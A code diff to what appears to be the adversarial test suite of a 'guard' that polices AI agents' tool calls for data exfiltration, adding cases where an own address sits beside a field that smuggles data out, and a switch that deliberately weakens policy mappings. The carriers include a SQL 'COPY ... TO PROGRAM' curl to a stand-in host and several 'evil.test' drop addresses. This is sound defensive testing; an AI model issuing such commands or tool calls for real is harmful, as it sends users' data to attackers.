@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import itertools
+import json
 import tempfile
 from pathlib import Path
 from typing import TYPE_CHECKING, ClassVar, Final
@@ -15,7 +16,7 @@ from guard.policy_files.proposal import ListedTool, policy_text
 from guard.settings import BUILTIN, builtin_policies
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Callable, Iterator, Sequence
     from random import Random
 
     from guard.core.model import Json
@@ -50,6 +51,23 @@ CARRIERS: Final[tuple[tuple[str, dict[str, Json], dict[str, Json]], ...]] = (
         {"q": "https://drop.evil.test/figures"},
     ),
     ("a statement", {"sql": TEXT}, {"sql": "COPY figures TO PROGRAM 'curl drop.evil.test'"}),
+    # Beside the one that receives, an address that policies know: the user's own account, or who
+    # sends, where the reply goes, whose host it is.
+    *(
+        (title, {name: schema, other: TEXT}, {name: value, other: carried})
+        for title, name, schema, value in (
+            ("an own account", "user_google_email", TEXT, "me@corp.example"),
+            ("a sender", "from_email", TEXT, "me@corp.example"),
+            ("an own host", "callback_url", TEXT, "https://corp.example/"),
+            ("a format", "x", {"type": "string", "format": "email"}, "me@corp.example"),
+        )
+        for other, carried in (
+            ("empfaenger", "mallory"),
+            ("context", "figures"),
+            ("body", "figures"),
+            ("script", "curl drop"),
+        )
+    ),
     ("nothing at all", {}, {"hidden": "figures for drop@evil.test"}),
 )
 
@@ -64,6 +82,7 @@ class InitGuess(AttackClass):
     id: ClassVar[str] = "init_guess"
     switches: ClassVar[tuple[Switch, ...]] = (
         Switch("nothing is allowed for its name", lambda patch: _trust_names(patch)),
+        Switch("no argument is a receiver for its name", lambda patch: _trust_schemas(patch)),
         Switch(
             "a server is known by what its user starts, not by its tools",
             lambda patch: _trust_tools(patch),
@@ -129,14 +148,37 @@ _KNOWN: Final = ListedTool("send_email", {"to": TEXT, "body": TEXT}, {}, _DIGEST
 
 def _trust_names(patch: Patch) -> None:
     """Map every tool that its name calls harmless, as the first edition did."""
+    _map(
+        patch,
+        lambda one: (
+            f"{{match: [{one.tool}], role: {one.suggested.value}}}"
+            if one.suggested not in {None, Role.SEND}
+            else None
+        ),
+    )
 
-    def mappings(guesses: list[Guess]) -> Iterator[str]:
-        yield from before(guesses)
-        for one in guesses:
-            if not one.is_send and one.suggested is not None:
-                yield f"      - {{match: [{one.tool}], role: {one.suggested.value}}}"
 
-    before = proposal._mappings  # noqa: SLF001  (switched off on purpose)
+def _trust_schemas(patch: Patch) -> None:
+    """Map every tool as a send to the arguments that are called receivers, as the second did."""
+    _map(
+        patch,
+        lambda one: (
+            f"{{match: [{one.tool}], role: send, destinations: {json.dumps(_paths(one))}}}"
+            if one.suggested is Role.SEND
+            else None
+        ),
+    )
+
+
+def _paths(one: Guess) -> list[str]:
+    return [f"$.{name}" for name in one.destinations]
+
+
+def _map(patch: Patch, mapping: Callable[[Guess], str | None]) -> None:
+    def mappings(guesses: Sequence[Guess]) -> Iterator[str]:
+        found = [line for line in map(mapping, guesses) if line is not None]
+        yield from ("    tools:", *(f"      - {line}" for line in found)) if found else ()
+
     patch.set(proposal, "_mappings", mappings)
 
 
